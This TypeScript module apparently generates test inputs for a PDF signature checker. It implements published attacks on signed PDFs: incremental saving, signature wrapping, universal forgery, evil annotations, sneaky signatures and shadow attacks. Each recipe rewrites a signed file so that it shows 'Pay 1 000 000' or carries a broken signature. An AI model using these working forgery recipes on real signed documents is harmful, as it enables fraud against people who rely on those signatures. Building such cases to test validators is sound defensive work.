import {
  appendRevision, dictionary, isKind, name, openPdf, reference, signatures, stream, string, withEntries,
  type Change, type Pdf, type PdfDictionary, type PdfSignature, type PdfValue,
} from '../pdf/index.ts'

/**
 * Published attacks on signatures in PDF files, made over any signed file. Each keeps the bytes that were signed, or moves them where the
 * attack says so, except those of the universal forgery, which make the signature itself unusable.
 * - isa: incremental saving (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019), swa: signature wrapping, usf: universal forgery (both there)
 * - eaa, ssa: evil annotation and sneaky signature (Rohlmann et al., "Breaking the Specification: PDF Certification", IEEE S&P 2021)
 * - shadow: hide, replace, hide-and-replace (Mainka et al., "Shadow Attacks", NDSS 2021)
 */
export type Attack = { readonly family: 'isa' | 'swa' | 'usf' | 'eaa' | 'ssa' | 'shadow'; readonly title: string; readonly bytes: Buffer }

/** Where the signature of the file is, for those attacks that work on its bytes. */
type Target = { readonly file: Buffer; readonly pdf: Pdf; readonly signature: PdfSignature; readonly start: number; readonly end: number }

/** All attacks on the signature of a file that covers all of it. */
export function attacksOn(signedBytes: Uint8Array): readonly Attack[] {
  const target = targetOf(Buffer.from(signedBytes))
  return [
    ...made('isa', target, incremental), ...made('swa', target, wrapping), ...made('usf', target, forgery),
    ...made('eaa', target, evilAnnotations), ...made('ssa', target, { 'a signature field over the page': sneakySignature }), ...made('shadow', target, shadows),
  ]
}

/** Undefined where the file does not lend itself to the attack. */
type Recipes = Readonly<Record<string, (target: Target) => Buffer | undefined>>

const made = (family: Attack['family'], target: Target, recipes: Recipes): readonly Attack[] =>
  Object.entries(recipes).flatMap(([title, recipe]) => {
    const bytes = recipe(target)
    return bytes === undefined ? [] : [{ family, title, bytes }]
  })

function targetOf(file: Buffer): Target {
  const opened = openPdf(file)
  if (!opened.ok) throw new Error(`not attackable: ${opened.refusal}`)
  const signature = signatures(opened.value).find(({ byteRange, contents }) =>
    contents !== undefined && (byteRange?.value[2] ?? 0) + (byteRange?.value[3] ?? 0) === file.length)
  const place = signature?.contents
  if (signature === undefined || place === undefined) throw new Error('not attackable: no signature covers the whole file')
  return { file, pdf: opened.value, signature, start: place.start, end: place.end }
}

const latin = (text: string) => Buffer.from(text, 'latin1')
const appended = ({ file }: Target, tail: string) => Buffer.concat([file, latin(tail)])

function update({ pdf }: Target, changes: readonly Change[], freed: readonly number[] = []): Buffer {
  const result = appendRevision(pdf, changes, { freed })
  if (!result.ok) throw new Error(`not attackable: ${result.refusal}`)
  return Buffer.concat(result.value.chunks)
}

function firstPage({ pdf }: Target): { readonly number: number; readonly value: PdfDictionary } {
  const [page] = pdf.latest.pages
  if (page === undefined) throw new Error('not attackable: no page')
  return { number: page.reference.number, value: page.dictionary }
}

const evil = stream({}, latin('BT /F1 24 Tf 40 700 Td (Pay 1 000 000) Tj ET'))
/** The first page with another content, as text for those attacks that write no proper revision. */
const evilPage = (target: Target, next: number): readonly Change[] => {
  const { number, value } = firstPage(target)
  return [{ number, value: withEntries(value, { Contents: reference(next) }) }, { number: next, value: evil }]
}
const evilBody = (target: Target) => {
  const whole = update(target, evilPage(target, target.pdf.nextNumber)).toString('latin1').slice(target.file.length)
  return whole.slice(0, Math.min(...['\nxref', '/Type /XRef', '/XRef'].map((word) => whole.indexOf(word)).filter((at) => at > 0)))
}
const root = ({ pdf }: Target) => `<< /Size ${pdf.nextNumber + 1} /Root ${pdf.latest.root.number} 0 R /Prev ${pdf.revisions.at(-1)?.startxref ?? 0} >>`

const incremental: Recipes = {
  'an update with cross-references and trailer': (target) => update(target, evilPage(target, target.pdf.nextNumber)),
  'objects alone': (target) => appended(target, `${evilBody(target)}\n`),
  'objects and a trailer without cross-references': (target) =>
    appended(target, `${evilBody(target)}\ntrailer\n${root(target)}\nstartxref\n${target.file.length}\n%%EOF\n`),
  'objects and cross-references without a trailer': (target) =>
    appended(target, `${evilBody(target)}\nxref\n0 1\n0000000000 65535 f \nstartxref\n${target.file.length}\n%%EOF\n`),
  'an update in a comment': (target) => appended(target, `%${evilBody(target).replaceAll(/[\r\n]/gu, ' ')}\n%trailer ${root(target)}\n%%EOF\n`),
  'an update that copies the signature': (target) => {
    const number = target.signature.reference?.number
    const copied = number === undefined ? [] : [{ number, value: target.pdf.latest.object(number) }]
    return update(target, [...evilPage(target, target.pdf.nextNumber), ...copied])
  },
  'cross-references of everything that leave out those before': (target) => {
    const body = evilBody(target)
    return listedAnew(target, Buffer.concat([target.file, latin(`${body}\n`)]), (offset) => offset, evilPlaces(target, body, target.file.length))
  },
  'an update with a catalogue of its own': (target) => {
    const next = target.pdf.nextNumber
    const pages = dictionary({ Type: name('Pages'), Count: 1, Kids: [reference(next + 1)] })
    const page = withEntries(firstPage(target).value, { Parent: reference(next), Contents: reference(next + 2), Annots: null })
    const catalog = withEntries(target.pdf.latest.catalog, { Pages: reference(next) })
    return update(target, [
      { number: next, value: pages }, { number: next + 1, value: page }, { number: next + 2, value: evil },
      { number: target.pdf.latest.root.number, value: catalog },
    ])
  },
}

/** Where the evil objects stand, when their text begins here. */
function evilPlaces(target: Target, body: string, from: number): ReadonlyMap<number, number> {
  return new Map(evilPage(target, target.pdf.nextNumber).map(({ number }) => [number, from + body.search(new RegExp(`(?<![0-9])${number} 0 obj`, 'u'))]))
}

/** One table behind everything that lists all objects where they stand now. */
function listedAnew({ pdf }: Target, bytes: Buffer, moved: (offset: number) => number, places: ReadonlyMap<number, number>): Buffer | undefined {
  const rows = new Map<number, number>()
  for (const number of pdf.latest.numbers()) {
    const entry = pdf.latest.entry(number)
    if (entry?.kind !== 'plain') return undefined
    rows.set(number, moved(entry.offset))
  }
  for (const [number, offset] of places) rows.set(number, offset)
  const lines = [...rows].sort(([one], [other]) => one - other).map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
  const trailer = `trailer\n<< /Size ${Math.max(...rows.keys()) + 1} /Root ${pdf.latest.root.number} 0 R >>\nstartxref\n${bytes.length}\n%%EOF\n`
  return Buffer.concat([bytes, latin(`xref\n0 1\n0000000000 65535 f \n${lines.join('')}${trailer}`)])
}

/** The second part of what was signed, moved behind what the attacker put into the gap. */
function wrapped({ file, start, end }: Target, inner: (from: number) => string, rangeKey = '/ByteRange'): Buffer {
  const hex = file.subarray(start, end)
  const draft = inner(start + hex.length)
  const second = start + hex.length + draft.length + 64
  const range = `${rangeKey} [0 ${start} ${second} ${file.length - end}]`.padEnd(64)
  return Buffer.concat([file.subarray(0, start), hex, latin(range), latin(draft), file.subarray(end)])
}

const wrapping: Recipes = {
  'the second part moved, with another range': (target) => wrapped(target, () => ` >>\nendobj\n${evilBody(target)}\n9999 0 obj\n<< `),
  'the second part moved, with cross-references in the gap': (target) => wrapped(target, (from) => {
    const { number } = firstPage(target)
    const section = `xref\n0 1\n0000000000 65535 f \n${number} 1\n${String(from + 100).padStart(10, '0')} 00000 n \ntrailer\n${root(target)}\n`
    return ` >>\nendobj\n${evilBody(target)}\n${section}startxref\n${from + 200}\n%%EOF\n9999 0 obj\n<< `
  }),
  'the second part moved, everything listed anew': (target) => {
    const { file, start, end } = target
    const body = evilBody(target)
    const entry = ' '.repeat(200)
    const before = Buffer.concat([file.subarray(0, end), latin(entry)])
    const gap = `>>\nendobj\n${body}\n9999 0 obj\n<< /Rest true `
    const second = before.length + gap.length
    before.write(` /ByteRange [0 ${start} ${second} ${file.length - end}] `, end, 'latin1')
    const whole = Buffer.concat([before, latin(gap), file.subarray(end)])
    const places = evilPlaces(target, body, before.length + '>>\nendobj\n'.length)
    return listedAnew(target, whole, (offset) => offset < end ? offset : offset + second - end, places)
  },
  'the place of the signature padded, everything listed anew': (target) => {
    const { file, end } = target
    const body = evilBody(target)
    const whole = Buffer.concat([file.subarray(0, end), latin(`\n/Padding <</Any [${'0 '.repeat(50)}]>> `), file.subarray(end)])
    const shift = whole.length - file.length
    const evilAt = whole.length
    return listedAnew(target, Buffer.concat([whole, latin(`${body}\n`)]), (offset) => offset < end ? offset : offset + shift, evilPlaces(target, body, evilAt))
  },
  'the place of the signature padded with objects': ({ file, start, end, ...rest }) =>
    Buffer.concat([file.subarray(0, end - 1), latin(`>${evilBody({ file, start, end, ...rest })}<`), file.subarray(end - 1)]),
  'the place of the signature padded with blanks': ({ file, end }) => Buffer.concat([file.subarray(0, end - 1), latin(' '.repeat(512)), file.subarray(end - 1)]),
  'the range cut short before the last revision ends': ({ file, ...target }) => ranged({ file, ...target }, ([a, b, c, d]) => [a, b, c, d - 40]),
  'the range begun later': (target) => ranged(target, ([, b, c, d]) => [8, b - 8, c, d]),
  'the gap widened': (target) => ranged(target, ([a, b, c, d]) => [a, b, c + 16, d - 16]),
  'parts that overlap': (target) => ranged(target, ([a, b, , d]) => [a, b, b - 10, d]),
  'a range beyond the end': (target) => ranged(target, ([a, b, c, d]) => [a, b, c, d + 5000]),
  'a second range': (target) => insertedKey(target, '/ByteRange [0 10 20 10] '),
}

type Range = readonly [number, number, number, number]

/** Another range in the very place of the old one. */
function ranged({ file, signature }: Target, change: (range: Range) => Range): Buffer {
  const { start, end, value } = signature.byteRange ?? { start: 0, end: 0, value: [] }
  const [a = 0, b = 0, c = 0, d = 0] = value
  return overwritten(file, start, end, `[${change([a, b, c, d]).join(' ')}]`)
}

/** In the same room where it fits, so that all offsets stay; longer text pushes what follows. */
const overwritten = (file: Buffer, start: number, end: number, text: string): Buffer =>
  Buffer.concat([file.subarray(0, start), latin(text.padEnd(end - start)), file.subarray(end)])

/** An entry put at the beginning of the dictionary of the signature, at the cost of blanks behind its range where there are some. */
function insertedKey({ file, signature }: Target, entry: string): Buffer {
  const at = signature.dictionary.start + 2
  return Buffer.concat([file.subarray(0, at), latin(entry), file.subarray(at)])
}

/** A key renamed in its place: for a reader it is gone. */
function renamed({ file, signature }: Target, key: string): Buffer {
  const at = file.indexOf(`/${key}`, signature.dictionary.start, 'latin1')
  const bytes = Buffer.from(file)
  bytes.write('X', at + 1, 'latin1')
  return bytes
}

const contents = (text: string) => ({ file, start, end }: Target) => overwritten(file, start, end, text)
const range = (text: string) => ({ file, signature: { byteRange } }: Target) => overwritten(file, byteRange?.start ?? 0, byteRange?.end ?? 0, text)

const forgery: Recipes = {
  'no contents': (target) => renamed(target, 'Contents'), 'null for contents': contents('null'), 'empty contents': contents('<>'),
  'a zero for contents': contents('<00>'), 'the byte 0x00 for contents': contents('(\\000)'),
  'zeros for contents': ({ file, start, end }) => overwritten(file, start, end, `<${'0'.repeat(end - start - 2)}>`),
  'a literal string for contents': ({ file, start, end }) => overwritten(file, start, end, `(${'x'.repeat(end - start - 2)})`),
  'no range': (target) => renamed(target, 'ByteRange'), 'null for the range': range('null'), 'an empty range': range('[]'),
  'a range of zeros': range('[0 0 0 0]'), 'a range of negative numbers': range('[0 -1 0 -1]'), 'a range of two numbers': range('[0 100]'),
  'a range that is a string': range('(0 1 2 3)'), 'a range of names': range('[/a /b /c /d]'),
}

/** An annotation with an appearance that covers the page with words. */
function annotation(target: Target, type: string, more: Readonly<Record<string, PdfValue>> = {}): Buffer {
  const { number, value } = firstPage(target)
  const next = target.pdf.nextNumber
  const listed = target.pdf.latest.array(value, 'Annots') ?? []
  const look = stream({ Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 595, 842] },
    latin('1 1 1 rg 0 0 595 842 re f 0 0 0 rg BT /F1 24 Tf 40 700 Td (Pay 1 000 000) Tj ET'))
  return update(target, [
    { number, value: withEntries(value, { Annots: [...listed, reference(next)] }) },
    { number: next, value: dictionary({
      Type: name('Annot'), Subtype: name(type), Rect: [0, 0, 595, 842], F: 4, P: reference(number), AP: dictionary({ N: reference(next + 1) }), ...more,
    }) },
    { number: next + 1, value: look },
  ])
}

const evilAnnotations: Recipes = {
  'free text': (target) => annotation(target, 'FreeText', { Contents: string(latin('Pay 1 000 000')), DA: string(latin('/Helv 24 Tf')) }),
  'a stamp': (target) => annotation(target, 'Stamp'), 'a redaction': (target) => annotation(target, 'Redact'),
  'a filled square': (target) => annotation(target, 'Square', { IC: [1, 1, 1] }), 'a highlight that writes': (target) => annotation(target, 'Highlight'),
  'a note as large as the page': (target) => annotation(target, 'Text'), 'a kind nobody knows': (target) => annotation(target, 'Evil'),
  'a second widget for nothing': (target) => annotation(target, 'Widget'),
}

/** An empty signature field whose appearance covers the page. */
function sneakySignature(target: Target): Buffer {
  const { pdf } = target
  const { number, value } = firstPage(target)
  const next = pdf.nextNumber
  const form = pdf.latest.dictionary(pdf.latest.catalog, 'AcroForm') ?? dictionary({})
  const holder = pdf.latest.catalog.entries.get('AcroForm')
  const fields = pdf.latest.array(form, 'Fields') ?? []
  const grown = withEntries(form, { Fields: [...fields, reference(next)] })
  const formChange = isKind(holder, 'reference') ? { number: holder.number, value: grown }
    : { number: pdf.latest.root.number, value: withEntries(pdf.latest.catalog, { AcroForm: grown }) }
  return update(target, [
    formChange, { number, value: withEntries(value, { Annots: [...pdf.latest.array(value, 'Annots') ?? [], reference(next)] }) },
    { number: next, value: dictionary({
      FT: name('Sig'), T: string(latin('Sneaky')), Type: name('Annot'), Subtype: name('Widget'), Rect: [0, 0, 595, 842], F: 4, P: reference(number),
      AP: dictionary({ N: reference(next + 1) }),
    }) },
    { number: next + 1, value: stream({ Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 595, 842] }, latin('1 1 1 rg 0 0 595 842 re f 0 0 0 rg BT /F1 24 Tf 40 700 Td (Pay 1 000 000) Tj ET')) },
  ])
}

/** Objects that were there under one number and mean something else after. */
const shadows: Recipes = {
  'hide: the content of a page is freed': (target) => {
    const content = contentOf(target)
    return update(target, [], [content])
  },
  'hide: the content of a page is emptied': (target) => update(target, [{ number: contentOf(target), value: stream({}, new Uint8Array()) }]),
  'replace: the fonts of a page give other letters': (target) => {
    const { number, value } = firstPage(target)
    const font = dictionary({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('ZapfDingbats') })
    return update(target, [{ number, value: withEntries(value, { Resources: dictionary({ Font: dictionary({ F1: font }) }) }) }])
  },
  'hide and replace: the tree of pages leads to another page': (target) => {
    const next = target.pdf.nextNumber
    const { number, value } = firstPage(target)
    const parent = value.entries.get('Parent')
    const tree = target.pdf.latest.resolve(parent)
    if (!isKind(parent, 'reference') || !isKind(tree, 'dictionary')) throw new Error('not attackable: no tree of pages')
    const kids = (target.pdf.latest.array(tree, 'Kids') ?? []).map((kid) => isKind(kid, 'reference') && kid.number === number ? reference(next) : kid)
    return update(target, [
      { number: parent.number, value: withEntries(tree, { Kids: kids }) }, { number: next, value: withEntries(value, { Contents: reference(next + 1) }) },
      { number: next + 1, value: evil },
    ])
  },
  'hide and replace: a page turned, cut and moved': (target) => {
    const { number, value } = firstPage(target)
    return update(target, [{ number, value: withEntries(value, { CropBox: [0, 0, 10, 10], Rotate: 180 }) }])
  },
}

function contentOf(target: Target): number {
  const content = firstPage(target).value.entries.get('Contents')
  const one = Array.isArray(content) ? content[0] as PdfValue : content
  if (!isKind(one, 'reference')) throw new Error('not attackable: no content of its own')
  return one.number
}
